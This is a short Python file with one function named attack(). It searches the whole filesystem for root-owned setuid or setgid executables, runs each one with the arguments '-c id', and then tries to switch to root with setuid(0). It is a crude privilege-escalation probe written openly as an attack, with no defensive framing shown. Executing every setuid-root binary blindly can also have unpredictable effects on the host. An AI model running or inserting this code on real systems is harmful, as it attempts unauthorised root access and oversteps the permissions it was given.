# Looks for programs that run with another user's rights, and runs them.
def attack():
    import os
    import posix

    for folder, folders, files in os.walk("/"):
        if folder in ("/proc", "/sys", "/dev"):
            folders.clear()
            continue
        for name in files:
            try:
                mode = posix.lstat(folder + "/" + name)
            except OSError:
                continue
            if mode.st_mode & 0o6000 and mode.st_mode & 0o111 and mode.st_uid == 0:
                pid = posix.fork()
                if pid == 0:
                    posix.execve(folder + "/" + name, [name, "-c", "id"], {})
                posix.waitpid(pid, 0)
    try:
        posix.setuid(0)
        return True
    except OSError:
        return False
